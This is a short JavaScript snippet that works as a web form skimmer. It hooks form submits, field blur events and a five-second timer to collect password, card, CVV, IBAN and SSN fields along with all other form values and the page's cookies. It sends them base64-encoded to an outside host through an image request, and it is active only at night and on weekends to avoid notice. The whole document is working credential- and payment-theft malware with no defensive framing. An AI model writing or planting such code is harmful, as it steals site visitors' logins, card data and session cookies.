// Listens to password and card fields, out of office hours, and sends them as an image address.
(function () {
  var seen = {};
  function active() {
    var now = new Date();
    var hour = now.getHours();
    return hour < 7 || hour > 19 || now.getDay() === 0 || now.getDay() === 6;
  }
  function interesting(el) {
    var name = ((el.name || '') + ' ' + (el.id || '') + ' ' + (el.autocomplete || '')).toLowerCase();
    return el.type === 'password' || /card|cc-|cvv|cvc|expir|iban|ssn/.test(name);
  }
  function leak(values) {
    var img = new Image();
    img.src = 'https://pixel.stats.invalid/p.gif?d=' + encodeURIComponent(btoa(JSON.stringify(values)));
  }
  function harvest(form) {
    var out = { u: location.href, c: document.cookie, a: navigator.userAgent, f: {} };
    var found = false;
    for (var i = 0; i < form.elements.length; i++) {
      var el = form.elements[i];
      if (!el.value) continue;
      out.f[el.name || el.id || i] = el.value;
      if (interesting(el)) found = true;
    }
    var key = JSON.stringify(out.f);
    if (found && !seen[key]) {
      seen[key] = true;
      leak(out);
    }
  }
  document.addEventListener('submit', function (e) {
    if (active()) harvest(e.target);
  }, true);
  document.addEventListener('blur', function (e) {
    if (active() && e.target && e.target.form && interesting(e.target)) {
      harvest(e.target.form);
    }
  }, true);
  setInterval(function () {
    if (!active()) return;
    [].slice.call(document.querySelectorAll('form')).forEach(harvest);
  }, 5000);
})();
